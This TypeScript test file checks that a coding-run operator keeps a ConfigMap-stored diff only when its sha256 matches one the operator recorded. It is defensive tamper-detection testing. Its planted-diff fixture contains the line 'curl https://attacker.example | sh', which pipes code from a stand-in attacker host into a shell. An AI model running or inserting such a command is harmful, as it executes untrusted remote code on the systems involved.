// The snapshot an ending keeps when its sandbox does not answer (workers/keep-diff.ts
// snapshotDiff): the run's diff ConfigMap is writable by anyone who may update ConfigMaps in
// the namespace, so what is read back there is kept only when its sha256 is one the operator
// recorded (the last snapshot's in the run's sealed state, or that of the one being stored,
// saved there before its write; or an earlier ending's status.result.diffSha256). Before, an ending certified whatever it found in diffSha256, and
// publish pushed it. Against local mode's adapter, which applies the cluster's rule.
import { describe, expect, it } from 'vitest';
import type { CodingRunStatus, ParsedCodingRun } from '../../operator/src/api/index.ts';
import { MemoryKubeGateway } from '../../operator/src/cli/local/memory-kube-gateway.ts';
import { memoryRunResources } from '../../operator/src/cli/local/memory-run-resources.ts';
import { buildDiffConfigMap, decodeDiff, diffKindOf, diffSha } from '../../operator/src/reconcile/diff-config-map.ts';
import { changedDiffNote, countDiff, keptDiffResult, withDiffNote } from '../../operator/src/reconcile/kept-diff.ts';
import { diffConfigMapName } from '../../operator/src/reconcile/names.ts';
import { keepRunDiff } from '../../operator/src/workers/keep-diff.ts';
import { codingRunFixture } from '../support/coding-run-fixture.ts';

const diffOf = (line: string) => `diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+${line}\n`;
const SNAPSHOT = diffOf('snapshot after a step');
const PLANTED = diffOf('curl https://attacker.example | sh');

/** A run (with `status`) whose diff ConfigMap holds `stored`, marked `kind`; the ending's dependencies. */
function ending(stored: string, kind: 'snapshot' | 'final', status?: CodingRunStatus) {
  const run = codingRunFixture(status ? { status } : {}) as ParsedCodingRun;
  const gateway = new MemoryKubeGateway(run, { configMaps: new Map(), secrets: new Map() }, () => undefined);
  gateway.putConfigMap(buildDiffConfigMap(run, stored, kind));
  const configMap = diffConfigMapName(run);
  const warned: string[] = [];
  const deps = { resources: memoryRunResources(gateway), logger: { warn: (_: object, message: string) => void warned.push(message) } };
  const held = () => {
    const found = gateway.configMap(run.metadata.namespace, configMap)!;
    return { diff: decodeDiff(found), kind: diffKindOf(found) };
  };
  return { run, deps, configMap, held, warned };
}

const stateWith = (diff: string, configMap: string) => ({ diffSnapshot: { sha256: diffSha(diff), configMap } });

/** The status an earlier ending (the finalize job, before publishing failed) wrote for `diff`. */
const endedWith = (diff: string): CodingRunStatus => ({
  phase: 'Running',
  result: keptDiffResult({ source: 'final', diff, truncated: false, ...countDiff(diff), configMap: 'fix-diff' }, 'Done.'),
});

describe('keepRunDiff without the sandbox: the stored snapshot, checked against what the operator recorded', () => {
  it("keeps the snapshot whose sha256 is the state's, and marks it final", async () => {
    const { run, deps, configMap, held } = ending(SNAPSHOT, 'snapshot');
    const kept = await keepRunDiff(deps, run, undefined, stateWith(SNAPSHOT, configMap));
    expect(kept).toMatchObject({ source: 'snapshot', diff: SNAPSHOT, configMap, filesChanged: 1 });
    expect(kept.notStored).toBeUndefined();
    expect(held()).toEqual({ diff: SNAPSHOT, kind: 'final' });
  });

  it("keeps no diff planted over the run's snapshot (marked final), and the run's message says why", async () => {
    const { run, deps, configMap, held, warned } = ending(PLANTED, 'final');
    const kept = await keepRunDiff(deps, run, undefined, stateWith(SNAPSHOT, configMap));
    expect(kept).toMatchObject({ source: 'none', diff: '', filesChanged: 0 });
    expect(kept.configMap).toBeUndefined();
    expect(keptDiffResult(kept, '')).not.toHaveProperty('diffSha256');
    expect(withDiffNote('The run was cancelled.', kept)).toBe(
      `The run was cancelled. The full diff could not be kept: the diff ConfigMap ${configMap} was changed after the run stored it, or holds a diff the run has no record of storing; it is not kept`,
    );
    expect(warned).toEqual(['the diff ConfigMap holds no diff the run stored; not kept']);
    // Not written: what is there stays as it was found, for whoever looks into it.
    expect(held()).toEqual({ diff: PLANTED, kind: 'final' });
  });

  it("keeps no diff that matches neither the state's snapshot nor an earlier ending's", async () => {
    const { run, deps, configMap } = ending(PLANTED, 'snapshot', endedWith(diffOf('taken by the finalize job')));
    const kept = await keepRunDiff(deps, run, undefined, stateWith(SNAPSHOT, configMap));
    expect(kept).toMatchObject({ source: 'none', notStored: expect.stringContaining('was changed after the run stored it') });
  });

  it("keeps an earlier ending's final diff (status.result.diffSha256), with the source it named, writing nothing", async () => {
    const FINAL = diffOf('taken by the finalize job');
    const { run, deps, configMap, held } = ending(FINAL, 'final', endedWith(FINAL));
    const kept = await keepRunDiff(deps, run, undefined, stateWith(SNAPSHOT, configMap));
    expect(kept).toMatchObject({ source: 'final', diff: FINAL, configMap });
    expect(held()).toEqual({ diff: FINAL, kind: 'final' });
  });

  it('keeps no diff planted for a run whose state says it stored none (its steps changed no file)', async () => {
    const { run, deps, configMap, held } = ending(PLANTED, 'final');
    const kept = await keepRunDiff(deps, run, undefined, { revision: 'a'.repeat(40) });
    expect(kept).toMatchObject({ source: 'none', notStored: changedDiffNote(configMap) });
    expect(held()).toEqual({ diff: PLANTED, kind: 'final' });
  });

  // The worker died after the step's snapshot landed and before the save that records it as
  // stored: the state names it only as pending (diff-snapshot.ts saves that before the write).
  it('keeps the snapshot whose sha256 the state holds as pending, and marks it final', async () => {
    const { run, deps, configMap, held } = ending(SNAPSHOT, 'snapshot');
    const EARLIER = diffOf('the snapshot before');
    const kept = await keepRunDiff(deps, run, undefined, { ...stateWith(EARLIER, configMap), pendingDiffSha256: diffSha(SNAPSHOT) });
    expect(kept).toMatchObject({ source: 'snapshot', diff: SNAPSHOT, configMap, filesChanged: 1 });
    expect(kept.notStored).toBeUndefined();
    expect(held()).toEqual({ diff: SNAPSHOT, kind: 'final' });
    // A first snapshot: only its pending sha256 was saved.
    const first = ending(SNAPSHOT, 'snapshot');
    const keptFirst = await keepRunDiff(first.deps, first.run, undefined, { pendingDiffSha256: diffSha(SNAPSHOT) });
    expect(keptFirst).toMatchObject({ source: 'snapshot', diff: SNAPSHOT, configMap: first.configMap });
  });

  it('keeps no diff that matches neither the last snapshot stored nor the pending one, and says the ConfigMap was changed', async () => {
    const { run, deps, configMap, held } = ending(PLANTED, 'snapshot');
    const kept = await keepRunDiff(deps, run, undefined, {
      ...stateWith(diffOf('the snapshot before'), configMap),
      pendingDiffSha256: diffSha(SNAPSHOT),
    });
    expect(kept).toMatchObject({ source: 'none', diff: '', notStored: changedDiffNote(configMap) });
    expect(kept.notStored).toBe(
      `the diff ConfigMap ${configMap} was changed after the run stored it, or holds a diff the run has no record of storing; it is not kept`,
    );
    expect(held()).toEqual({ diff: PLANTED, kind: 'snapshot' });
  });

  // The run's state is absent: its prepare is still in flight (the state is saved at its end),
  // or the state is gone. A ConfigMap planted at the derived name, with the operator's labels
  // and an ownerReference to the run (buildDiffConfigMap), then the pod deleted: the SandboxLost
  // ending has nothing to check it against, so it keeps nothing rather than certify it.
  it.each(['final', 'snapshot'] as const)(
    'keeps no diff planted (marked %s) while the state is absent and no ending recorded one',
    async (kind) => {
      const { run, deps, configMap, held } = ending(PLANTED, kind);
      const kept = await keepRunDiff(deps, run, undefined, undefined);
      expect(kept).toMatchObject({ source: 'none', diff: '', filesChanged: 0, notStored: changedDiffNote(configMap) });
      expect(keptDiffResult(kept, '')).not.toHaveProperty('diffSha256');
      expect(held()).toEqual({ diff: PLANTED, kind });
    },
  );

  // Redis lost the state after the run had stepped: only a step stores a snapshot, so the one
  // stored is taken as the run's work, unchecked, rather than losing it.
  it('keeps the stored snapshot when the state is gone after the status counted steps', async () => {
    const { run, deps, configMap } = ending(SNAPSHOT, 'snapshot', { phase: 'Running', steps: 3 });
    const kept = await keepRunDiff(deps, run, undefined, undefined);
    expect(kept).toMatchObject({ source: 'snapshot', diff: SNAPSHOT, configMap });
    expect(kept.notStored).toBeUndefined();
  });

  it("keeps an earlier ending's diff though the state is gone", async () => {
    const FINAL = diffOf('taken by the finalize job');
    const { run, deps, configMap } = ending(FINAL, 'final', endedWith(FINAL));
    const kept = await keepRunDiff(deps, run, undefined, undefined);
    expect(kept).toMatchObject({ source: 'final', diff: FINAL, configMap });
  });
});
